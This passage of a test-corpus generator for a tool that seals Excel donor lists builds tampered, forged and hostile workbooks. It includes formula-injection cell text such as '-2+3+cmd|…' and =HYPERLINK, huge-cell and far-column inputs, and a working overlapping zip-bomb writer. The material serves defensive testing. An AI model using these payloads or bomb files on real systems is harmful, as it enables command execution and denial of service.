             "row 9's seal pasted over row 10's (both rows keep their values)",
             check_kinds=frozenset({"tampered", "missing"}))
    set_sheet_cells(sealed, p, {f"{seal_letter}{rows[6]}": seal_cell(rows[6], seal_text[5])})
    p = case("seals_recomputed_other_key", "list.xlsx", SEALED_BLOCKED,
             "every seal recomputed with another key (forged), the manifest left as it was",
             check_kinds=frozenset({"tampered"}))
    okey = keys.read(other_key)
    forged = seals_for(book.manifest, okey, rules, book.table.rows.tolist(), _canon(book, rules))
    write_seals(book, dict(enumerate(forged)), None, p)
    p = case("seals_from_other_workbook", "list.xlsx", SEALED_BLOCKED,
             "the seal column copied from another workbook sealed with the same key",
             check_kinds=frozenset({"tampered"}))
    twin_book = open_book(twin, rules)
    write_seals(book, dict(enumerate(twin_book.table.seals.tolist())), None, p)
    p = case("manifest_edited", "list.xlsx", SEALED_BLOCKED, "the manifest's sealed_by changed by hand",
             stderr_has=MANIFEST_SAYS)
    by = f'<t>sealed_by</t></is></c><c r="B{mf.FIELDS.index("sealed_by") + 1}" t="inlineStr"><is><t>'.encode()
    rezip(sealed, p, replace={MANIFEST_PART: part(sealed, MANIFEST_PART).replace(by, by + b"x", 1)})
    assert part(p, MANIFEST_PART) != part(sealed, MANIFEST_PART)
    p = case("manifest_rows_edited", "list.xlsx", SEALED_BLOCKED,
             "the manifest's serial list edited to drop a sealed row", stderr_has=MANIFEST_SAYS)
    m_xml = part(sealed, MANIFEST_PART)
    serials = book.manifest["serials"]
    rezip(sealed, p, replace={MANIFEST_PART: m_xml.replace(
        f"<t>{serials}</t>".encode(), f"<t>{serials.replace(str(r0), str(r0 + 1), 1)}</t>".encode(), 1)})
    assert part(p, MANIFEST_PART) != m_xml
    p = case("manifest_copied", "list.xlsx", SEALED_BLOCKED,
             "the manifest sheet copied from another workbook sealed with the same key",
             check_kinds=frozenset({"tampered"}))
    rezip(sealed, p, replace={MANIFEST_PART: part(twin, MANIFEST_PART)})
    p = case("manifest_emptied", "list.xlsx", SEALED_BLOCKED, "every cell of the manifest sheet deleted",
             stderr_has=MANIFEST_SAYS)
    rezip(sealed, p, replace={MANIFEST_PART: sheetxml.kv_sheet([])})
    p = case("manifest_removed", "list.xlsx", _codes(2, 0, 2, 2),
             "the manifest sheet deleted (the seal column stays): reads as never sealed")
    rezip(sealed, p, drop={MANIFEST_PART}, replace={"xl/workbook.xml": sheetxml.re.sub(
        rb'<sheet [^>]*name="_DonorGuard"[^>]*/>', b"", wb_xml)})
    p = case("sealed_with_other_key", "list.xlsx", _codes(2, 2, 2, 2),
             "the whole workbook sealed with another team's key",
             stderr_has=r"Sealed with key [0-9a-f]{4}…|別の封印鍵（[0-9a-f]{4}…）")
    shutil.copyfile(other, p)
    p = case("row_1048576", "list.xlsx", SEALED_BLOCKED,
             "a sealed list plus a copied 個人番号 in the last row Excel has (1,048,576); the file stays small")
    add_row(sealed, p, 1048576, {ID_COL: inline(f"{ID_COL}1048576", df["個人番号"].iat[3])})
    p = case("row_1048576_far_column", "list.xlsx", UNREADABLE,
             "a sealed list plus a stray note at XFD1048576: 17 billion cells for the reader to hold",
             stderr_has="too many cells|セルが多すぎます")
    add_row(sealed, p, 1048576, {"XFD": inline("XFD1048576", "メモ")})
    p = case("far_column_row_5000", "list.xlsx", UNREADABLE,
             "a sealed list plus a stray note at XFD5000 (82 million cells)",
             stderr_has="too many cells|セルが多すぎます")
    add_row(sealed, p, 5000, {"XFD": inline("XFD5000", "メモ")})
    p = case("huge_cell", "list.xlsx", SEALED_CLEAN,
             "a sealed list whose row 2 holds one 2 MiB text cell (beyond Excel's 32,767 characters)")
    rng = random.Random(7)
    add_row_at(sealed, p, 2, {"A": inline("A2", "".join(chr(0x4E00 + rng.randrange(20000)) for _ in range(700_000)))})

    # ---- what must not leave the office (issue 15) -----------------------------------------------
    def cells_of(texts, cols):
        return {f"{cols[i % len(cols)]}{rows[i * 3 + 1]}": inline(f"{cols[i % len(cols)]}{rows[i * 3 + 1]}", v)
                for i, v in enumerate(texts)}
    formula_cells = cells_of(FORMULAS, [NAME_COL, ADDRESS_COL])
    p = case("formula_text_unsealed", "list.xlsx", UNSEALED_UNFIT,
             "氏名 and 住所 cells holding =HYPERLINK(…&H4…), @SUM, +1+2, a tab before =1+1, -2+3+cmd|…, ＝1+1 as text",
             says={"seal": r"(氏名|住所)が「= \+ - @」などの記号で始まり.*（行 \d"})
    set_sheet_cells(base, p, formula_cells)
    p = case("formula_text_sealed_before", "list.xlsx", SEALED_BLOCKED,
             "the same list sealed by a version that let formula text through: the seals hold, check blocks",
             check_kinds=frozenset({"formula"}), says={"export": r"Nothing was written"})
    old_book = open_book(case_path(cases, "formula_text_unsealed"), rules)
    m = mf.new(rules, keys.read(main_key), old_book.sheet, old_book.header_row, old_book.table.rows.tolist(),
               mf.Stamp("2025-12-01T10:00:00+09:00", "staff"))
    write_seals(old_book, dict(enumerate(seals_for(m, keys.read(main_key), rules, old_book.table.rows.tolist(),
                                                   _canon(old_book, rules)))), m, p)
    p = case("formula_typed_after_seal", "list.xlsx", SEALED_BLOCKED,
             "after sealing, a 住所 cell retyped as =1+1 (text)", check_kinds=frozenset({"formula", "owner_changed"}))
    set_sheet_cells(sealed, p, {f"{ADDRESS_COL}{rows[7]}": inline(f"{ADDRESS_COL}{rows[7]}", "=1+1")})
    p = case("near_formula_text_sealed", "list.xlsx", SEALED_CLEAN,
             "names and addresses with = + - @ inside, not first (a=b, 1+1番地, '=1, 1-2-3): fine, and exported")
    set_sheet_cells(base, p, cells_of(NEAR_FORMULAS, [NAME_COL, ADDRESS_COL]))
    _seal(p, main_key)
    unencodable = cells_of(UNENCODABLE, [NAME_COL, ADDRESS_COL])
    p = case("cp932_unencodable_unsealed", "list.xlsx", UNSEALED_FINE,
             "𠮷, an emoji, an IVS, NBSP, accented Latin in names and addresses: sealed, with a notice",
             says={"seal": r"お知らせ\n.*「𠮷」（U\+20BB7、行 \d+）.*cp932 ではそのまま書き出せません"
                           r".*--encoding utf-8-sig"})
    set_sheet_cells(base, p, unencodable)
    p = case("cp932_unencodable_sealed", "list.xlsx", SEALED_UNSENDABLE,
             "the same, sealed: check clean with notices, export in cp932 refused naming rows and characters",
             says={"check": r'"notice": "encoding"',
                   "export": r'Nothing was exported: 氏名: "𠮷" \(U\+20BB7, rows \d+\)'
                             r".*cannot be written unchanged in cp932.*utf-8-sig"})
    _seal(shutil.copyfile(case_path(cases, "cp932_unencodable_unsealed"), p), main_key)
    p = case("cp932_round_trip_sealed", "list.xlsx", SEALED_UNSENDABLE,
             "〜 U+301C, − U+2212, ¢ U+00A2: cp932 writes them, but reads back ～ － ￠; export refused",
             says={"export": r'"〜" \(U\+301C, rows \d+; read back as "～" U\+FF5E\)'})
    set_sheet_cells(base, p, cells_of(CHANGED, [ADDRESS_COL]))
    _seal(p, main_key)
    p = case("ids_in_names_sealed", "list.xlsx", SEALED_CLEAN,
             "My Numbers typed into names and addresses (plain, 4-4-4, full-width): sealed, exported as typed")
    _seal(_write(with_seeded_ids(df), p), main_key)
    p = case("ids_in_names_sorted", "list.xlsx", SEALED_REPAIRABLE,
             "the same list after the Kosai sort: messages name the owners, whose names hold My Numbers")
    synth.kosai_mistake(case_path(cases, "ids_in_names_sealed"), p)
    return cases


def wide_list(src, dst):
    """An unsealed list with a note in the sheet's last column (XFD2): 16,384 columns for a 30-row list.
    Not in the matrix (every command takes 20 s or more on it today); tests/test_hostile.py uses it."""
    add_row_at(src, dst, 2, {"XFD": inline("XFD2", "メモ")})
    return dst


def case_path(cases, name) -> Path:
    return next(c.path for c in cases if c.name == name)


def synth_kosai(src, dst):
    synth.kosai_mistake(src, dst)
    return dst


def _sst(strings) -> bytes:
    items = "".join(f"<si><t>{s}</t></si>" for s in strings)
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.openxmlformats.org/'
            f'spreadsheetml/2006/main" count="{len(strings)}" uniqueCount="{len(strings)}">{items}</sst>').encode()


def _canon(book, rules):
    from donorguard.core.fingerprint import canonical
    return canonical(book.table.values, rules)


def _overlapping_bomb(src, dst, copies: int):
    """Every entry's central-directory record points at the same local file (a 64 MiB stream of spaces)."""
    kernel = zlib.compressobj(1, zlib.DEFLATED, -15)     # level 1: each entry stays under 1000:1
    raw = [kernel.compress(b" " * (1 << 20)) for _ in range(64)] + [kernel.flush()]
    comp = b"".join(raw)
    crc = 0
    for _ in range(64):
        crc = zlib.crc32(b" " * (1 << 20), crc)
    size = 64 << 20
    out = bytearray()
    central = bytearray()
    with zipfile.ZipFile(src) as z:
        parts = [(i.filename, z.read(i.filename)) for i in z.infolist()]
    entries = []
    for name, data in parts:
        c = zlib.compressobj(6, zlib.DEFLATED, -15)
        cd = c.compress(data) + c.flush()
        entries.append((name.encode(), len(out), zlib.crc32(data), len(cd), len(data)))
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, zlib.crc32(data), len(cd), len(data),
                           len(name.encode()), 0) + name.encode() + cd
    kernel_off = len(out)
    kname = b"xl/media/k0.xml"
    out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(comp), size, len(kname), 0) \
        + kname + comp
    for i in range(copies):
        entries.append((f"xl/media/k{i}.xml".encode(), kernel_off, crc, len(comp), size))
    for name, off, c, cs, us in entries:
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, c, cs, us, len(name),
                               0, 0, 0, 0, 0, off) + name
    cd_off = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), cd_off, 0)
    Path(dst).write_bytes(bytes(out))


def main(argv=None):
    argv = sys.argv[1:] if argv is None else argv
    if len(argv) != 1 or argv[0].startswith("-"):          # --help is not a folder to write into
        print("usage: make_corpus.py FOLDER", file=sys.stderr)
        return 2
    cases = build(argv[0])
    for c in cases:
        codes = " ".join(f"{k}={'/'.join(map(str, sorted(v)))}" for k, v in c.expect.items())
        print(f"{c.name:34} {codes:36} {c.about}")
    print(f"{len(cases)} cases in {argv[0]}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
